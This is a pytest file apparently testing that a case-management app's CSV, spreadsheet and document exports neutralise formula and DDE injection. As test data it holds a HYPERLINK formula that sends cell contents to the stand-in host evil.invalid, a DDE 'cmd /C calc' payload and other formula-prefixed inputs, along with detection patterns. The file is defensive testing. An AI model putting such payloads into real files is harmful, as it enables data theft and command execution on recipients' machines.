"""No file that leaves the desk makes a spreadsheet or a word processor reckon, fetch or start anything, whatever somebody was called."""

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import rempart.desk
from rempart.desk.cases.models import CaseParty
from rempart.desk.rights.table import table
from tests.desk.hostile.conftest import Town, routes

NAME = '=HYPERLINK("http://evil.invalid/?"&A1;"x")'
"""What the applicant is called, and what else somebody typed."""
TYPED = (
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    "\u00a0=1",
    "＝1",
    "=cmd|' /C calc'!A0",
    "DDEAUTO c:\\x",
)
_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_SPREAD = {"text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}
_WRITERS = {"api/exporting.py", "registers/views.py"}
"""Modules of the desk that write a table; each writes a cell by ``harmless`` alone."""


def files_in(name: str, kind: str, body: bytes) -> Iterator[tuple[str, bytes]]:
    """Yield a file and, of an archive, what is in it."""
    yield f"{name} {kind}", body
    if body[:2] == b"PK":
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            for one in archive.namelist():
                yield from files_in(f"{name}/{one}", Path(one).suffix, archive.read(one))


def acting(name: str, body: bytes) -> list[str]:
    """Return what in a file would be reckoned, fetched or started."""
    if "text/csv" in name or name.endswith(".csv"):
        text = body.decode("utf-8-sig")
        rows = csv.reader(io.StringIO(text), delimiter=";" if text.partition("\n")[0].count(";") else ",")
        return [cell for row in rows for cell in row if cell.lstrip(" \u00a0").startswith(_STARTS)]
    if name.endswith((".xml", ".rels")):
        text = body.decode()
        fields = re.findall(r'w:instr="\s*([^"]*)"|<w:instrText[^>]*>\s*([^<]*)', text)
        found = [one or other for one, other in fields if (one or other).split()[0] not in ("PAGE", "NUMPAGES")]
        found += re.findall(r"<f>|<f |externalLink|TargetMode=\"External\"|w:attachedTemplate", text)
        cells = re.findall(r"<t\b[^>]*>([^<]*)<", text) if "/xl/" in name else []
        return [*found, *(cell for cell in cells if cell.startswith(_STARTS))]
    return []


@pytest.fixture
def typed(furnished: Town) -> Town:
    """The furnished town, in which what people typed begins like a formula."""
    case = furnished.cast.case
    for row in CaseParty.objects.filter(case=case):
        row.say({**row.said, "name": f"{NAME} {row.key}"})
        row.save()
    case.title = TYPED[3]
    case.save()
    own, other = (
        furnished.client(furnished.cast.people["case_officer"]),
        furnished.client(furnished.cast.people["reviewer"]),
    )
    for number, form in enumerate(("csv", "xlsx"), start=2):
        asked = {"act": "ask", "form": form, "recipient": TYPED[9], "basis": TYPED[0] + " of the judge"}
        assert own.post(f"/cases/{case.number}/exports/", asked).status_code == 302
        other.post(f"/cases/{case.number}/exports/", {"act": "allow", "export": str(number)})
    return furnished


def left(town: Town) -> Iterator[tuple[str, Any]]:
    """Yield every file that somebody may take away, by its route: as the first of its readers whom it answers."""
    clients = {role: town.client(user) for role, user in town.cast.people.items()}
    for name, route, _ in routes():
        readers = [] if name.startswith("api:v1:") else [role for role in clients if role in table().readers(route)]
        answers = (clients[role].get(town.path(name)) for role in readers)
        answer = next((one for one in answers if one.status_code == 200), None)
        if answer is not None and "attachment" in answer.get("Content-Disposition", ""):
            yield name, answer
    where = f"/cases/{town.number}/exports/"
    for number in (2, 3):
        yield "api:case_exports", clients["case_officer"].post(where, {"act": "fetch", "export": str(number)})
    yield "journal:export", clients["data_protection_officer"].post(town.path("journal:export"))


@pytest.mark.slow
def test_no_file_that_leaves_acts(typed: Town) -> None:
    """Exports of a case, the journal, letters, reports, errors of a file, papers of a person: taken by whoever may, and looked into."""
    wrong, kinds, called, seen = [], set(), set(), set()
    for name, answer in left(typed):
        body = b"".join(answer.streaming_content) if answer.streaming else answer.content
        assert answer.status_code == 200, name
        seen.add(name)
        for place, content in files_in(name, answer["Content-Type"].partition(";")[0], body):
            kinds.add(place.rpartition(" ")[2])
            wrong += [(place, one) for one in acting(place, content)]
            if b"evil.invalid" in content:
                called.add(name)
    assert not wrong, wrong
    assert kinds >= _SPREAD
    assert {"letters:draft", "journal:export", "api:case_exports", "concerned:extract_data"} <= seen
    assert "api:case_exports" in called  # the name itself is in what leaves, as a text


def test_whoever_writes_a_table_writes_texts() -> None:
    """The code is searched for what writes a table: nothing but the modules named here, and those write by one function."""
    root, found = Path(rempart.desk.__file__).parent, set()
    for path in root.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)|xlsxwriter|openpyxl|to_csv|\.write_csv|to_excel", text):
            found.add(str(path.relative_to(root)))
            assert "harmless(" in text, path
    assert found == _WRITERS


@pytest.mark.parametrize("text", TYPED[:9])
def test_refused_records_and_errors_are_texts(text: str) -> None:
    """The tables of a register are written by ``as_csv``: a cell of a file that was brought comes back as a text."""
    from rempart.desk.registers.views import as_csv

    answer = as_csv("errors.csv", [["record", text], [text, "fine"], [None, 3]])
    rows = csv.reader(
        io.StringIO(
            b"".join(answer.streaming_content).decode("utf-8-sig")
            if answer.streaming
            else answer.content.decode("utf-8-sig"),
            newline="",
        ),
        delimiter=";",
    )
    assert [cell for row in rows for cell in row if cell.lstrip(" \u00a0").startswith(_STARTS)] == []
